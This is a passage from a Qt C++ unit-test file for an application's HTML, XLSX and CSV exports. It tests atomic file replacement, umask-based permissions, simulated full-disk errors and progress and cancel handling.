        QVERIFY2(c.unicode() >= 0x20 || c == u'\t' || c == u'\n' || c == u'\r',
                 qPrintable(QString::number(c.unicode())));
    // The workbook never needed the library's escapes for them.
    QVERIFY(!text.contains(QLatin1String("_x0001_")));
}

// ---------------------------------------------------------------------------
// Writing the file

void TestExports::saveReplacesWhole_data()
{
    QTest::addColumn<QString>("format");
    QTest::addRow("web page") << "html";
    QTest::addRow("workbook") << "xlsx";
    QTest::addRow("csv") << "csv";
}

static void save(const QString &format, const QString &file, const TJob &data,
                 const TProgress &progress)
{
    if (format == QLatin1String("html"))
        THtmlExport(data.Kind, QStringLiteral("H<!-- - -->R#category|#notes<!-- - -->F"),
                    QStringLiteral("t"))
            .Save(file, data.Result, progress);
    else if (format == QLatin1String("xlsx"))
        TXlsxExport::Save(file, data.Kind, data.Result, progress);
    else
        TCsvExport::Save(file, data.Kind, data.Result, progress);
}

// The written text of any format: the page from GB18030, the workbook's
// cells, the CSV from UTF-8.
static QString exported(const QString &format, const QString &file)
{
    if (format == QLatin1String("html"))
        return THi::FromBytes(THi::LoadFile(file));
    if (format == QLatin1String("xlsx"))
        return sheetCells(file).join(QLatin1Char('\n'));
    return QString::fromUtf8(THi::LoadFile(file));
}

void TestExports::saveReplacesWhole()
{
    QFETCH(QString, format);
    const TRowList rows{rank(In, QStringLiteral("a"), QStringLiteral("1"), QStringLiteral("1.00"),
                             QStringLiteral("100.00%"))};
    const TJob data = exportData(TExportKind::Cates, rows, nullptr);
    QTemporaryDir dir;
    const QString file = dir.filePath(QStringLiteral("old.") + format);
    THi::SaveFile(file, QByteArray(1 << 20, 'x'));
    save(format, file, data);

    const QByteArray bytes = THi::LoadFile(file);
    QVERIFY(!bytes.contains("xxxx"));
    QVERIFY(bytes.size() < 100000);
    if (format == QLatin1String("xlsx"))
        QVERIFY(sheetCells(file).contains(QStringLiteral("B2|s|a|General")));
    QCOMPARE(leftovers(dir.path()),
             QStringList{QStringLiteral("old.") + format}); // no temporary left
    QCOMPARE(QFileInfo(file).permissions() & QFileDevice::ReadOther, QFileDevice::ReadOther);
}

void TestExports::saveFailsCleanly_data()
{
    saveReplacesWhole_data();
}

void TestExports::saveFailsCleanly()
{
    QFETCH(QString, format);
    const TJob data = exportData(TExportKind::Cates, {}, nullptr);
    QTemporaryDir dir;
    // A folder where the file should be: the rename over it fails after writing.
    const QString file = dir.filePath(QStringLiteral("taken.") + format);
    QVERIFY(QDir(dir.path()).mkpath(QStringLiteral("taken.") + format + QStringLiteral("/inside")));
    QVERIFY_THROWS_EXCEPTION(TError, save(format, file, data));
    QVERIFY(QFileInfo(file).isDir());
    QCOMPARE(leftovers(dir.path()), QStringList{});
    // A missing folder: nothing is created at all.
    const QString nowhere = dir.filePath(QStringLiteral("missing/x.") + format);
    QVERIFY_THROWS_EXCEPTION(TError, save(format, nowhere, data));
    QVERIFY(!QFileInfo::exists(dir.filePath(QStringLiteral("missing"))));
}

void TestExports::saveFollowsUmask_data()
{
    QTest::addColumn<QString>("format");
    QTest::addColumn<int>("mask");
    QTest::addColumn<int>("mode");
    for (const char *f : {"html", "xlsx", "csv"}) {
        QTest::addRow("%s, private umask", f) << f << 077 << 0600;
        QTest::addRow("%s, usual umask", f) << f << 022 << 0644;
        QTest::addRow("%s, group umask", f) << f << 002 << 0664;
    }
}

void TestExports::saveFollowsUmask()
{
    QFETCH(QString, format);
    QFETCH(int, mask);
    QFETCH(int, mode);
    QTemporaryDir dir;
    const QString file = dir.filePath(QStringLiteral("out.") + format);
    const TRowList rows{rank(In, QStringLiteral("a"), QStringLiteral("1"), QStringLiteral("1.00"),
                             QStringLiteral("100.00%"))};
    const mode_t old = ::umask(mode_t(mask));
    const auto back = qScopeGuard([old] { ::umask(old); });
    save(format, file, exportData(TExportKind::Cates, rows, nullptr));
    struct stat st {};
    QCOMPARE(::stat(QFile::encodeName(file).constData(), &st), 0);
    QCOMPARE(int(st.st_mode & 0777), mode);
}

void TestExports::saveOnFullDisk_data()
{
    saveReplacesWhole_data();
}

// A file size limit refuses writes as a full disk does, without a special
// file system: the message names the chosen file and the system's reason.
void TestExports::saveOnFullDisk()
{
    QFETCH(QString, format);
    TRowList rows;
    for (int i = 0; i < 300; ++i)
        rows.append(rank(Out, QStringLiteral("类别%1").arg(i), QStringLiteral("1"),
                         QStringLiteral("1.00"), QStringLiteral("1.00%")));
    const TJob data = exportData(TExportKind::Cates, rows, nullptr);
    QTemporaryDir dir;
    const QString file = dir.filePath(QStringLiteral("full.") + format);
    THi::SaveFile(file, "old");

    ::signal(SIGXFSZ, SIG_IGN);
    struct rlimit old {};
    QCOMPARE(::getrlimit(RLIMIT_FSIZE, &old), 0);
    struct rlimit tiny = old;
    tiny.rlim_cur = 16;
    QCOMPARE(::setrlimit(RLIMIT_FSIZE, &tiny), 0);
    QString message;
    try {
        save(format, file, data);
    } catch (const TError &e) {
        message = e.text();
    }
    ::setrlimit(RLIMIT_FSIZE, &old);

    QVERIFY2(message.contains(QStringLiteral("“%1”").arg(file)), qPrintable(message));
    QVERIFY2(message.contains(qt_error_string(EFBIG)), qPrintable(message));
    QVERIFY2(!message.contains(QLatin1String(".partial-")), qPrintable(message));
    QVERIFY2(!message.contains(QStringLiteral("未知错误")), qPrintable(message));
    QCOMPARE(THi::LoadFile(file), QByteArray("old"));
    QCOMPARE(leftovers(dir.path()), QStringList{QStringLiteral("full.") + format});
}

void TestExports::progressAndCancel_data()
{
    QTest::addColumn<QString>("format");
    QTest::addColumn<int>("stopAt"); // the report that answers stop; 0: never
    for (const char *f : {"html", "xlsx", "csv"}) {
        QTest::addRow("%s, to the end", f) << f << 0;
        QTest::addRow("%s, stopped at once", f) << f << 1;
        QTest::addRow("%s, stopped at the end", f) << f << 3;
    }
}

void TestExports::progressAndCancel()
{
    QFETCH(QString, format);
    QFETCH(int, stopAt);
    // Two reports on the way (every ProgressEvery rows) and one at the end.
    const int count = 2 * Exports::ProgressEvery + 5;
    TRowList rows;
    for (int i = 0; i < count; ++i)
        rows.append(rec(QStringLiteral("2011-04-01"), Out, QStringLiteral("c%1").arg(i),
                        QStringLiteral("1.00")));
    const TRecordList recs = records(rows);
    const TJob data = exportData(TExportKind::Trans, rows, &recs);
    QTemporaryDir dir;
    const QString file = dir.filePath(QStringLiteral("big.") + format);
    THi::SaveFile(file, "old");

    QList<qint64> seen;
    const TProgress progress = [&](qint64 done, qint64 total) {
        if (total != count)
            return false;
        seen.append(done);
        return seen.size() != stopAt;
    };
    bool cancelled = false;
    try {
        save(format, file, data, progress);
    } catch (const ECancelled &) {
        cancelled = true;
    }
    QCOMPARE(cancelled, stopAt != 0);
    const QList<qint64> all{Exports::ProgressEvery, 2 * Exports::ProgressEvery, count};
    QCOMPARE(seen, stopAt == 0 ? all : all.mid(0, stopAt));
    // A stopped export leaves the old file and no temporary.
    QCOMPARE(THi::LoadFile(file) == "old", cancelled);
    QCOMPARE(leftovers(dir.path()), QStringList{QStringLiteral("big.") + format});
}

QTEST_GUILESS_MAIN(TestExports)
#include "tst_Exports.moc"
